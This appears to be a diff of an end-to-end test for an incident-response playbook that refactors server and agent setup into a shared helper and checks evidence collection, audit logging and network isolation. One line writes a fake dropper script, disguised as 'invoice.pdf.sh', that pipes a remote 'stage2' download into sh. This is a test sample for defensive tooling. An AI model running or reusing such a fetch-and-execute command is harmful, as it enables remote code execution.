@@ -1,10 +1,9 @@
-import { type ChildProcess, spawn, spawnSync } from "node:child_process";
+import { spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { createVaultClient, type VaultClient } from "@custody/client";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { CUSTODY_BIN as BIN, LiveBench } from "../../../test/support/live-e2e.ts";
 import { createTestNamespace } from "../../../test/support/netns.js";
 import type { PlaybookResult } from "../src/playbook.js";
 
@@ -12,19 +11,17 @@ import type { PlaybookResult } from "../src/playbook.js";
 // (`custody agent run`) and the example's own built command. Where this machine can make a network
 // namespace (root, ip, nft), the agent runs inside one, so the playbook's isolate is real and cuts only
 // the namespace off; elsewhere the same run is made with isolation on a verdict it does not reach.
-const ROOT = join(import.meta.dirname, "..", "..", "..");
-const BIN = join(ROOT, "packages", "cli", "dist", "bin.js");
 const PLAYBOOK = join(import.meta.dirname, "..", "dist", "main.js");
-const work = mkdtempSync(join(tmpdir(), "custody-playbook-"));
-const vault = join(work, "vault");
 const CASE = "IR-2026-31";
 const net = createTestNamespace("pbk", 214);
 const isolating = net.unavailable === undefined;
-const children: ChildProcess[] = [];
+const bench = new LiveBench(isolating ? { host: net.hostIp, onDevice: (argv) => net.wrap(argv) } : {});
+const { work, vault } = bench;
 const suspicious = join(work, "invoice.pdf.sh");
 let url = "";
-let alice: VaultClient;
 let deviceId = "";
+
+const alice = () => bench.custodian();
 
 function run(file: string, args: string[]) {
   const result = spawnSync(process.execPath, [file, ...args], {
@@ -35,27 +32,10 @@ function run(file: string, args: string[]) {
   return { code: result.status, stdout: result.stdout, stderr: result.stderr };
 }
 
-function start(argv: string[], ready: RegExp): Promise<ChildProcess> {
-  const child = spawn(argv[0] as string, argv.slice(1), { cwd: work, stdio: ["ignore", "pipe", "pipe"] });
-  children.push(child);
-  let output = "";
-  return new Promise((resolve, reject) => {
-    const seen = (chunk: Buffer) => {
-      output += chunk.toString();
-      if (ready.test(output)) resolve(child);
-    };
-    child.stdout?.on("data", seen);
-    child.stderr?.on("data", seen);
-    child.once("exit", (code) => reject(new Error(`${argv.join(" ")} exited ${code}: ${output}`)));
-  });
-}
-
-const onDevice = (argv: string[]) => (isolating ? net.wrap(argv) : argv);
 const rita = () => ["--server", url, "--identity", join(work, "rita.pem"), "--ca", join(work, "ca.pem")];
 
 beforeAll(async () => {
-  const host = isolating ? net.hostIp : "127.0.0.1";
-  expect(run(BIN, ["init", "--name", "alice", "--identity-out", join(work, "alice.pem")]).code).toBe(0);
+  bench.init();
   writeFileSync(suspicious, "#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n");
   const listed = run(BIN, [
     "hashlist",
@@ -66,55 +46,19 @@ beforeAll(async () => {
     join(work, "alice.pem"),
   ]);
   expect(listed.code, listed.stderr).toBe(0);
-  await start(
-    [process.execPath, BIN, "serve", "--vault", vault, "--listen", `${host}:0`, "--name", host],
-    /listening on/,
-  );
-  url = (JSON.parse(readFileSync(join(vault, "server.json"), "utf8")) as { urls: string[] }).urls[0] ?? "";
-  alice = createVaultClient({ baseUrl: url, identityPem: readFileSync(join(work, "alice.pem"), "utf8") });
-  writeFileSync(join(work, "rita.pem"), (await alice.issueIdentity("rita", "person")).identityPem, {
-    mode: 0o600,
-  });
-  writeFileSync(join(work, "ca.pem"), readFileSync(join(vault, "pki", "ca.pem")));
-  await alice.setLiveResponse(true);
-  const { token } = await alice.createEnrollmentToken({ caseId: CASE });
-  const enroll = ["agent", "enroll", "--server", url, "--token", token, "--dir", join(work, "agent")];
-  const argv = onDevice([process.execPath, BIN, ...enroll, "--ca", join(work, "ca.pem"), "--json"]);
-  const enrolled = spawnSync(argv[0] as string, argv.slice(1), { cwd: work, encoding: "utf8" });
-  expect(enrolled.status, enrolled.stderr).toBe(0);
-  deviceId = (JSON.parse(enrolled.stdout) as { deviceId: string }).deviceId;
-  writeFileSync(join(work, "policy.json"), run(BIN, ["agent", "policy"]).stdout, { mode: 0o600 });
-  await start(
-    onDevice([
-      process.execPath,
-      BIN,
-      "agent",
-      "run",
-      "--dir",
-      join(work, "agent"),
-      "--policy",
-      join(work, "policy.json"),
-    ]),
-    /welcome|connected|agent starting/,
-  );
-  for (let i = 0; i < 600; i++) {
-    if ((await alice.listDevices()).find((d) => d.deviceId === deviceId)?.online) break;
-    await new Promise((resolve) => setTimeout(resolve, 50));
-  }
+  await bench.serve(["rita"], CASE);
+  url = bench.url;
+  deviceId = bench.deviceId;
+  await bench.startAgent();
   for (const scope of [`device:${deviceId}`, `case:${CASE}`])
-    await alice.grant({ name: "rita", role: "responder", scope });
+    await alice().grant({ name: "rita", role: "responder", scope });
   // the responder role collects; reading the custody reports it prints is the analyst's
-  await alice.grant({ name: "rita", role: "analyst", scope: `case:${CASE}` });
+  await alice().grant({ name: "rita", role: "analyst", scope: `case:${CASE}` });
 }, 180_000);
 
 afterAll(async () => {
-  alice?.close();
-  for (const child of children.reverse()) {
-    child.kill("SIGTERM");
-    if (child.exitCode === null) await new Promise((resolve) => child.once("exit", resolve));
-  }
+  await bench.close();
   net.remove();
-  rmSync(work, { recursive: true, force: true });
 });
 
 describe("examples/ir-playbook against a real server and agent", () => {
@@ -148,7 +92,7 @@ describe("examples/ir-playbook against a real server and agent", () => {
     expect(file?.what).toBe(`file ${suspicious}`);
     // the file's item is the file, byte for byte
     const sha256 = createHash("sha256").update(readFileSync(suspicious)).digest("hex");
-    const item = await alice.show({ id: file?.itemId ?? "", caseId: CASE });
+    const item = await alice().show({ id: file?.itemId ?? "", caseId: CASE });
     expect(item.digests.sha256).toBe(sha256);
     // each item's custody report verifies, and the log holds the session's commands with the reason
     for (const evidence of result.evidence) {
@@ -180,7 +124,7 @@ describe("examples/ir-playbook against a real server and agent", () => {
         ...(isolating ? ["isolate"] : []),
       ]),
     );
-    const audit = JSON.stringify(await alice.showAudit());
+    const audit = JSON.stringify(await alice().showAudit());
     expect(audit).toContain("EDR alert 4411: dropper");
     if (isolating) {
       expect(net.nft("list", "tables")).toContain("custody_isolation");
